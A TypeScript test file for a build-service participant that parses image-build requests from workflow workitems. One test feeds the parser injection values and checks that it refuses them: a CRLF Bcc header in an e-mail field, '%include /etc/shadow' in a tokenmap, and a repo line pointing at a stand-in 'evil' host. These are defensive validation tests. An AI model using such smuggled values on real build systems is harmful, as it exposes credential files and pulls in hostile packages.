import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readBuildRequest, type Workitem, withResult, workitemTag } from '../../src/participant/workitem.ts';

const fei = { wfid: 'wf1', expid: '0_1', subid: 's', engine_id: 'engine' };

test('the job key of a workitem: the same for a redelivery, new for a re-dispatch by ruote', () => {
  const item: Workitem = { fei, fields: { dispatched_at: '2026-11-21 07:00:00 UTC', image: {} } };
  const redelivered = JSON.parse(JSON.stringify(item)) as Workitem;
  assert.equal(workitemTag(redelivered), workitemTag(item));
  assert.match(workitemTag(item), /^boss-workitem:[0-9a-f]{24}$/);
  const retried = { ...item, fields: { ...item.fields, dispatched_at: '2026-11-21 07:05:00 UTC' } };
  assert.notEqual(workitemTag(retried), workitemTag(item));
  assert.notEqual(workitemTag({ ...item, fei: { ...fei, expid: '0_2' } }), workitemTag(item));
});

test('both field styles are read; wrong types are named', () => {
  const image = readBuildRequest({
    fei,
    fields: {
      image: {
        kickstart: 'ks',
        image_id: 'i',
        image_type: 'fs',
        name: 'n',
        arch: 'aarch64',
        tokenmap: 'A:b',
      },
      params: { forget: true },
    },
  });
  assert.deepEqual(image, {
    ok: true,
    style: 'image',
    forget: true,
    submit: { kickstart: 'ks', type: 'fs', arch: 'aarch64', name: 'n', tokenmap: 'A:b' },
  });
  const later = readBuildRequest({
    fields: { kickstart: 'ks', image_id: 'i', image_type: 'raw', name: 'n' },
  });
  assert.equal(later.ok && later.submit.type, 'raw');
  assert.deepEqual(
    readBuildRequest({
      fields: { image: { kickstart: 42, image_id: 'i', image_type: 'fs', name: 'n', arch: 'x' } },
    }),
    {
      ok: false,
      error: 'fields.image.kickstart must be a string, not 42',
    },
  );
});

test('fields that would inject are refused, named as the workitem names them', () => {
  const base = { kickstart: 'ks', image_id: 'i', image_type: 'fs', name: 'n', arch: 'x86_64' };
  assert.deepEqual(
    readBuildRequest({
      fields: {
        image: {
          ...base,
          email: 'me@example.org\r\nBcc: all@example.org',
          tokenmap: 'A:x\n%include /etc/shadow',
        },
      },
    }),
    {
      ok: false,
      error:
        'fields.image.email: "me@example.org\\u000D\\u000ABcc: all@example.org" is not one e-mail address; ' +
        'fields.image.tokenmap: the value of A holds a line break or control character (U+000A)',
    },
  );
  const flat = readBuildRequest({ fields: { ...base, release: '1.0\nrepo --baseurl=http://evil/' } });
  assert.equal(flat.ok, false);
  assert.match(flat.ok ? '' : flat.error, /^fields\.release: the value of RELEASE holds a line break/);
});

test('a refused workitem keeps its fields and gets ERROR in both styles', () => {
  const reply = withResult(
    { fei, fields: { msg: ['earlier'], other: 1 } },
    { job: null, error: 'missing fields.kickstart', url: (path) => path },
  );
  assert.deepEqual(reply.fields, {
    msg: ['earlier', 'build_image: missing fields.kickstart'],
    other: 1,
    image: {
      result: false,
      files_url: '',
      image_url: '',
      logfile_url: '',
      error: 'missing fields.kickstart',
    },
    __result__: false,
    __error__: 'missing fields.kickstart',
    Status: 'ERROR',
    URL: '',
    Image: '',
    Log: '',
    Error: 'missing fields.kickstart',
  });
});
